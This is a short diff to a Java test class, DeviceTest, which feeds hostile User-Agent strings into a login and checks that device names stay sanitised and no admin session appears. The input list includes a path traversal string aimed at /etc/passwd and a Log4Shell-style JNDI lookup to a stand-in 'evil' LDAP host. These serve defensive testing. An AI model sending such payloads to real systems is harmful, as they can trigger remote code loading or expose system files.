@@ -137,8 +137,7 @@ class DeviceTest {
                     "../../etc/passwd",
                     "${jndi:ldap://evil}",
                     "")) {
-                Device device = deviceAfterLogin(site, "User-Agent: " + agent);
-                assertThat(device).isNotNull();
+                Device device = Objects.requireNonNull(deviceAfterLogin(site, "User-Agent: " + agent));
                 assertThat(String.valueOf(device.name())).matches("null|[A-Za-z0-9 ._-]{1,52}");
                 assertThat(site.sessions().of("admin").list()).isEmpty();
             }
